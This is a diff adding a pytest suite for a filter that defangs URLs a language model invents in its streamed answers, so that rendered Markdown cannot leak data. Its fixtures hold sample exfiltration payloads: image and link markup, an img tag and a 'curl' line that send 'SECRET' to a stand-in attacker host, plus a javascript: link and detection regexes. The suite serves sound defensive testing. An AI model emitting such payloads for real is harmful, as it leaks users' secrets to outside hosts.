@@ -1,0 +1,196 @@
+"""Addresses that the model made up: plain text in every reading, however the answer is cut into pieces."""
+
+from __future__ import annotations
+
+import html
+import random
+import re
+from collections.abc import Sequence
+
+import pytest
+from markdown_it import MarkdownIt
+
+from task.utils.defang import DefangedChoice
+from task.utils.defanger import Defanger
+from task.utils.inert import Suspicion
+from tests.support.choices import RecordingChoice
+
+KNOWN = "https://known.example/a"
+EVIL = "https://evil.example/?d=SECRET"
+
+
+def suspicion(*, tainted: bool = True, hosts: Sequence[str] = ()) -> Suspicion:
+    return Suspicion(lambda url: url == KNOWN, lambda: tainted, hosts)
+
+
+def shown(text: str, size: int = 1_000, *, tainted: bool = True, hosts: Sequence[str] = ()) -> str:
+    """The text as a reader gets it, fed in pieces of `size` characters."""
+    choice = RecordingChoice()
+    filtered = DefangedChoice(choice, suspicion(tainted=tainted, hosts=hosts))
+    for start in range(0, len(text), size):
+        filtered.append_content(text[start : start + size])
+    filtered.close()
+    return choice.content
+
+
+INERT = "https[://]evil[.]example/?d=SECRET"
+SAME = (
+    "Plain words, 5 < 6, a <b c>, x[1]: y, Wow! How now: $5 & more.",
+    f"[a page]({KNOWN}) and {KNOWN}, <{KNOWN}> ({KNOWN}) `{KNOWN}`",
+    f"![known]({KNOWN}) ![ours](files/b/chart.png) [ours](files/b/x.csv) ![d](data:image/png;base64,AAAA)",
+    f"[1]: {KNOWN}\n",
+    f"```\ncurl {EVIL}\n![x]({EVIL})\n```\n",
+    f"~~~ sh\ncurl {EVIL}\n~~~",
+    f"````\n```\n{EVIL}\n````",
+    "[mail](mailto:bob@example.com) and/or 1/2 // comment",
+    "if a<b and c>d: print('<x>')",
+    "Ende.\r\nNächste Zeile mit 日本語 und ![",
+)
+
+
+@pytest.mark.parametrize("size", [1, 2, 3, 7, 1_000])
+@pytest.mark.parametrize("text", SAME)
+def test_what_carries_nothing_out_stays_as_it_is(text: str, size: int) -> None:
+    assert shown(text, size) == (text if not text.endswith("![") else f"{text[:-2]}!\\[")
+
+
+CHANGED = {
+    f"See ![a chart]({EVIL}).": f"See \\[a chart\\] (`{INERT}`).",
+    f"[click]({EVIL})!": f"[click] (`{INERT}`)!",
+    f"[click](<{EVIL}> 'title')": f"[click] (`{INERT}`)",
+    f"see {EVIL}, ok": f"see {INERT}, ok",
+    f"<{EVIL}>": f"&lt; {INERT}>",
+    "www.evil.example/SECRET": "www[.]evil[.]example/SECRET",
+    "[t](//evil.example/S)": "[t] (`//evil[.]example/S`)",
+    "[t](https&#58;//evil.example/S)": "[t] (`https[://]evil[.]example/S`)",
+    "[t](https\\://evil.example/S)": "[t] (`https[://]evil[.]example/S`)",
+    "https&#58;//evil.example": "https&amp;#58;//evil.example",
+    f"![a][r]\n\n[r]: {EVIL}\n": f"!\\[a][r]\n\n[r] : `{INERT}`\n",
+    f'<img src="{EVIL}">': f'&lt; img src="{INERT}">',
+    f"[![a]({EVIL})]({KNOWN})": f"[\\[a\\] (`{INERT}`)]({KNOWN})",
+    f"{KNOWN}?d=SECRET": "https[://]known[.]example/a?d=SECRET",
+    f'{KNOWN}"SECRET': 'https[://]known[.]example/a"SECRET',
+    f"- x\n  ```\n![y]({EVIL})": f"- x\n  ```\n\\[y\\] (`{INERT}`)",
+    f"```\nx\n```\n![y]({EVIL})": f"```\nx\n```\n\\[y\\] (`{INERT}`)",
+    f"```\r![x]({EVIL})\r```\r![y]({EVIL})": f"```\r![x]({EVIL})\r```\r\\[y\\] (`{INERT}`)",
+    f"<div>\n```\n</div>\n\n![y]({EVIL})": f"<div>\n```\n</div>\n\n\\[y\\] (`{INERT}`)",
+    "[x](javascript:alert(1))": "[x] (`javascript:alert(1)`)",
+}
+
+
+@pytest.mark.parametrize("size", [1, 2, 3, 7, 1_000])
+@pytest.mark.parametrize("text", CHANGED)
+def test_what_the_model_made_up_becomes_text_however_it_is_cut(text: str, size: int) -> None:
+    assert shown(text, size) == CHANGED[text]
+
+
+def test_without_text_from_outside_only_what_loads_by_itself_is_suspect() -> None:
+    links = f"[page]({EVIL}) {EVIL} www.evil.example <{EVIL}>"
+    assert shown(links, tainted=False) == links
+    assert shown(f"![x]({EVIL})", tainted=False) == f"\\[x\\] (`{INERT}`)"
+    assert shown(f'<img src="{EVIL}">', tainted=False).startswith("&lt;")
+
+
+def test_hosts_that_the_operator_trusts_may_be_linked_and_shown() -> None:
+    text = f"![x]({EVIL}) [y]({EVIL}) {EVIL}"
+    assert shown(text, hosts=["*.example"]) == text
+    assert shown("![x](https://evil.example.net/)", hosts=["*.example"]) != text
+
+
+class Pieces(RecordingChoice):
+    """Remembers each piece of the answer."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.pieces: list[str] = []
+
+    def append_content(self, content: str) -> None:
+        self.pieces.append(content)
+
+
+def test_pieces_pass_as_they_come() -> None:
+    choice = Pieces()
+    filtered = DefangedChoice(choice, suspicion())
+    words = ["Once", " upon", " a", " time", ", there", " was", " a", " wolf", "."]
+    for word in words:
+        filtered.append_content(word)
+    assert choice.pieces == words
+
+
+def test_a_sentence_before_a_call_is_shown_whole_before_the_call() -> None:
+    choice = RecordingChoice()
+    filtered = DefangedChoice(choice, suspicion())
+    filtered.append_content("Let me see:")
+    filtered.create_stage("search")
+    assert choice.content == "Let me see:"
+    filtered.append_content("//evil.example/S")
+    filtered.close()
+    assert choice.content == "Let me see: //evil.example/S"
+
+
+def test_stages_and_reasoning_are_made_harmless_too() -> None:
+    choice = RecordingChoice()
+    filtered = DefangedChoice(choice, suspicion())
+    stage = filtered.create_stage("search")
+    stage.open()
+    stage.append_content(f"**Query**: ![x]({EVIL})\n")
+    inner = stage.create_stage("inner")
+    inner.open()
+    inner.append_content(f"![x]({EVIL})")
+    inner.close()
+    stage.close()
+    filtered.append_reasoning_content(f"![x]({EVIL})")
+    filtered.close()
+    assert [recorded.status for recorded in choice.stages] == ["completed", "completed"]
+    assert all(INERT in text for text in (choice.reasoning, *(recorded.content for recorded in choice.stages)))
+
+
+def test_a_construct_that_never_ends_is_shown_in_the_end() -> None:
+    endless = f"![{'x' * 9_000}"
+    assert shown(endless, 7) == f"!\\[{'x' * 9_000}"
+    assert shown("[a](" + "(" * 9_000, 7) == "[a] (" + "(" * 9_000
+
+
+FRAGMENTS = (
+    "![a]", "[a]", "(", ")", "](", "![", "[", "]", "`", "```", "\n", "\n\n", "~~~", '<img src="', '">', "<", ">",
+    '<a href="', EVIL, "//evil.example/S", "https&#58;//evil.example/S", "https\\://evil.example/S", "<https:",
+    "https:/", "www.evil.example/S", "/evil.example/S", " ", "  ", "    ", "- ", "> ", "[r]: ", "![a][r]", "[a][r]",
+    "\\", '"t"', "'", "x", "word ", "\r", "$$", "<div>", "</div>", "<!--", "-->", "<pre>", "</pre>", "1. ", "# ", "|",
+    KNOWN, "`` ", "\t", "!", "*", "_", "&#33;", "&lbrack;", "\ufeff", "\u00a0",
+)  # fmt: skip
+READERS = (
+    MarkdownIt("commonmark", {"html": True}),
+    MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"]),
+)
+ACTIVE = re.compile(r"([a-z][a-z0-9+.-]*:|[/\\]{2})", re.IGNORECASE)
+LIVE_TAG = re.compile(r"<[a-zA-Z][^>]*(?:(?<!;)//|\\\\)evil\.example[^>]*>")
+LINKED_TEXT = re.compile(r"(?:https?://|(?<![a-zA-Z0-9])www\.)evil")
+
+
+def carried_out(text: str) -> list[str]:
+    """What a reader's program would load or follow of the text, were it rendered as Markdown."""
+    found: list[str] = []
+    for reader in READERS:
+        for block in reader.parse(text):
+            for token in (block, *(block.children or ())):
+                urls = [str(token.attrs.get(name, "")) for name in ("src", "href")]
+                found += [url for url in urls if ACTIVE.match(url) and "evil.example" in url]
+                if token.type in ("html_block", "html_inline"):
+                    raw = re.sub(r"<!--.*?(-->|$)|<https", "", token.content.replace("&lt;", ""), flags=re.DOTALL)
+                    found += LIVE_TAG.findall(html.unescape(raw))
+                if token.type == "text":
+                    found += LINKED_TEXT.findall(token.content)
+    return found
+
+
+@pytest.mark.parametrize("seed", range(8))
+def test_no_markdown_reader_finds_a_way_out_in_random_texts(seed: int) -> None:
+    dice = random.Random(seed)
+    for _ in range(300):
+        text = "".join(dice.choice(FRAGMENTS) for _ in range(dice.randint(2, 14)))
+        defanger, pieces, position = Defanger(suspicion()), list[str](), 0
+        while position < len(text):
+            size = dice.choice((1, 2, 3, 5, 9))
+            pieces.append(defanger.feed(text[position : position + size]))
+            position += size
+        assert not carried_out("".join([*pieces, defanger.feed("", last=True)])), repr(text)
